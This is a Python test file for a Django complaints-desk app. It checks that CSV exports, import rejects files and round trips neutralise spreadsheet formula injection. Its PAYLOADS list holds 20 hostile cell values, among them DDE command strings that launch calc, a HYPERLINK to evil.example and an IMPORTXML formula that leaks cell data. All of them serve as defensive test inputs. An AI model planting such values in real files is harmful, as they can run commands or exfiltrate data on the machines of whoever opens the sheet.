"""Words that a spreadsheet would run (R15): 20 of them through every table that leaves the house, and back again.

Tamed means: no cell begins with a sign that starts a formula. Restoring gives the words as they were.
"""

import csv
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client

from tests.cast import NOON
from tests.staff import enter
from weimin.catalogue.models import AnswerTemplate, Kind
from weimin.county.models import Office, Place, Post
from weimin.county.plans import read_table
from weimin.kernel.csv_safe import restore_cell
from weimin.matters.models import Matter

PAYLOADS = [
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"领补贴\")", "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "﹢1", " =1+1",
    "\u3000=1+1", "\ufeff=1+1", "'=1+1", "\t=1+1", "=IMPORTXML(CONCAT(\"//e/\",A1),\"//a\")",
]  # fmt: skip
STARTS = "=+-@＝＋－＠﹦﹢\t\r\n\0"


def tame(cell):
    """As a spreadsheet reads it: what comes after white space and marks may start a formula too."""
    return cell.lstrip(" \u3000\ufeff\u00a0")[:1] not in STARTS or cell == "" or is_number(cell)


def is_number(cell):
    return cell.lstrip("-").replace(".", "", 1).isdigit()


def cells_of(text):
    return [cell for row in list(csv.reader(StringIO(text.removeprefix("\ufeff"))))[1:] for cell in row]


def test_there_are_twenty():
    assert len(set(PAYLOADS)) == 20
    assert [payload for payload in PAYLOADS if tame(payload) and not payload.startswith("'")] == []


@pytest.fixture
def keeper(cast, monkeypatch, settings):
    settings.RATE_LIMITS = False
    monkeypatch.setattr("weimin.kernel.clock.now", lambda: NOON)
    return enter(Client(), cast.officials["keeper"])


def named(payload):
    """Every name an export can show, as hostile as its column allows."""
    for model in (Kind, Office, Place, Post, AnswerTemplate):
        model.objects.update(name_zh=payload[:60])


EXPORTS = ["/desk/matters/export.csv?queue=all", *(
    f"/desk/settings/{name}/?as=csv" for name in ("kinds", "rules", "urgencies", "routes", "templates")
)]  # fmt: skip


@pytest.mark.parametrize("path", EXPORTS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{n}" for n in range(20)])
def test_no_table_of_the_desk_runs_it(cast, keeper, monkeypatch, payload, path):
    cast.matter()
    AnswerTemplate.objects.create(name_zh="x", facts=payload)
    named(payload)
    who = keeper if "settings" in path else enter(Client(), cast.officials["hotline"])
    answer = who.get(path)
    assert (answer.status_code, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    cells = cells_of(answer.content.decode())
    assert cells
    assert [cell for cell in cells if not tame(cell)] == []
    if "rules" not in path and "urgencies" not in path:
        assert payload in [restore_cell(cell) for cell in cells] or payload.strip() in [
            restore_cell(cell).strip() for cell in cells
        ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{n}" for n in range(20)])
def test_all_matters_leave_and_come_back_as_they_were(cast, tmp_path, capsys, payload):
    matter = cast.matter(text=f"{payload}")
    kept = Matter.objects.get(pk=matter.pk).text
    table = tmp_path / "all.csv"
    call_command("export_matters", str(table))
    cells = cells_of(table.read_text(encoding="utf-8-sig"))
    assert [cell for cell in cells if not tame(cell)] == []
    again = tmp_path / "again.csv"
    again.write_text(table.read_text(encoding="utf-8-sig"), encoding="utf-8")
    mapping = "outside_id=number,text=text,kind=kind,place=place,received_at=received_at"
    call_command("import_matters", str(again), "--map", mapping, "--prefix", "again:", "--json")
    other = Matter.objects.exclude(pk=matter.pk).get()
    assert other.text == kept


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{n}" for n in range(20)])
def test_what_was_rejected_can_be_opened_mended_and_brought_in_again(cast, tmp_path, capsys, payload):
    """The file of rejects holds other people's words and is opened by a clerk to mend them."""
    old = tmp_path / "old.csv"
    with old.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["id", "what", "class", "opened"], ["1", payload, payload, "2026/1/6"]])
    call_command("import_matters", str(old), "--map", "outside_id=id,text=what,kind=class,received_at=opened", "--json")
    rejects = (tmp_path / "old.csv.rejects.csv").read_text(encoding="utf-8-sig")
    assert [cell for cell in cells_of(rejects) if not tame(cell)] == []
    (row,) = csv.DictReader(StringIO(rejects))
    read = restore_cell(payload)  # an apostrophe before a sign is what a spreadsheet shows as the sign
    assert (restore_cell(row["what"]), restore_cell(row["class"])) == (read, read)

    routes = tmp_path / "routes.csv"
    with routes.open("w", encoding="utf-8", newline="") as file:
        head = ["kind", "place", "lead", "supporting", "from", "source"]
        csv.writer(file).writerows([head, [payload, payload, payload, "", "", payload]])
    call_command("import_routes", str(routes), "--json")
    told = (tmp_path / "routes.csv.rejects.csv").read_text(encoding="utf-8-sig")
    assert [cell for cell in cells_of(told) if not tame(cell)] == []
    (line,) = read_table(tmp_path / "routes.csv.rejects.csv")
    assert line["kind"] == restore_cell(payload.strip())
